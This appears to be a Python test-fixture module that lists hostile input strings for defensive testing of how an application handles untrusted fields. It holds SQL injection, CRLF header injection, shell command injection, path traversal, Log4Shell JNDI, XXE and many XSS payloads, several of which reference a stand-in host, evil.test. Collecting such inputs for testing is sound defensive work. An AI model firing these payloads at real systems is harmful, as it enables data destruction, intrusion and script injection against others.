"""What strangers write into fields: for databases, for headers, for logs, for shells, for parsers and for browsers."""

SQL = (
    "'", "''", '"', "';--", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1", "1; SELECT pg_sleep(5)--",
    "'; SELECT pg_sleep(5);--", "' || pg_sleep(5) || '", "1 AND (SELECT 1 FROM pg_sleep(5))", "'; DROP TABLE events;--",
    "'; DELETE FROM events;--", "' UNION SELECT body FROM events--", "1 UNION ALL SELECT NULL,NULL--", "$1", "$$;$$",
    "%(market)s", "{0}", "\\'; DROP TABLE inbox;--", "';COPY events TO PROGRAM 'id';--", "' AND 1=CAST((SELECT version()) AS int)--",
    "E'\\x27'", "x'||(SELECT current_user)||'", "%' AND '1'='1", "_", "%", "/**/OR/**/1=1", "‘ OR ‘1’=‘1", "ʼ OR 1=1--",
)  # fmt: skip
HEADER = (
    "a\r\nSet-Cookie: stolen=1", "a\nSet-Cookie: stolen=1", "a\rSet-Cookie: stolen=1", "\r\n\r\n<html>stolen</html>",
    "%0d%0aSet-Cookie:%20stolen=1", "%0aLocation:%20//evil.test", "\u560d\u560aSet-Cookie: stolen=1", "\u2028Set-Cookie: stolen=1",
    "a\x0bSet-Cookie: stolen=1", "a\x0cSet-Cookie: stolen=1", "a\x85Set-Cookie: stolen=1", "//evil.test", "https://evil.test",
)  # fmt: skip
OTHER = (
    "../../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd\x00.png", "file:///etc/passwd", "$(id)", "`id`", "| id", "; id",
    "${7*7}", "{{7*7}}", "#{7*7}", "${jndi:ldap://evil.test/a}", "%s%s%s%n", "{settings.jwt_keys}", "\x00", "\x1b[2J\x1b]0;owned\x07",
    "\u202eevil", "\ufeff", "\ud7ff", "\U0010ffff", "a" * 5_000, "9" * 400, "-0", "1e400", "NaN", "__proto__", "constructor",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "2026-02-30T00:00:00Z", "*)(uid=*",
)  # fmt: skip
MARKUP = (
    "<script>window.owned=1</script>", "<img src=x onerror=window.owned=1>", "<svg onload=window.owned=1>",
    "\"><script>window.owned=1</script>", "'><img src=x onerror=window.owned=1>", "</script><script>window.owned=1</script>",
    "</title><script>window.owned=1</script>", "</textarea><script>window.owned=1</script>", "<!--><script>window.owned=1</script>",
    "<iframe srcdoc='<script>parent.owned=1</script>'>", "<iframe src=javascript:parent.owned=1>", "<a href=javascript:window.owned=1>x</a>",
    "<body onload=window.owned=1>", "<details open ontoggle=window.owned=1>", "<input autofocus onfocus=window.owned=1>",
    "<video><source onerror=window.owned=1></video>", "<math><mtext><style><img src=x onerror=window.owned=1>", "<style>@import 'x'</style>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<object data=javascript:window.owned=1>", "<embed src=javascript:window.owned=1>", "<form action=//evil.test><button>x</button></form>",
    "javascript:window.owned=1", "JaVaScRiPt:window.owned=1", "data:text/html,<script>window.owned=1</script>", "\x01javascript:window.owned=1",
    "' onmouseover=window.owned=1 '", '" onfocus=window.owned=1 autofocus="', "`${window.owned=1}`", "{{constructor.constructor('window.owned=1')()}}",
    "<svg><script>window.owned=1</script></svg>", "<scr<script>ipt>window.owned=1</scr</script>ipt>", "%3Cscript%3Ewindow.owned=1%3C/script%3E",
    "&lt;script&gt;window.owned=1&lt;/script&gt;", "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e", "<template><script>window.owned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>", "<x-hostile data-owned=1>x</x-hostile>",
)  # fmt: skip
"""Each would set `window.owned`, load from a stranger, or make an element, if it were ever taken for markup."""
EVERY = (*SQL, *HEADER, *OTHER, *MARKUP)
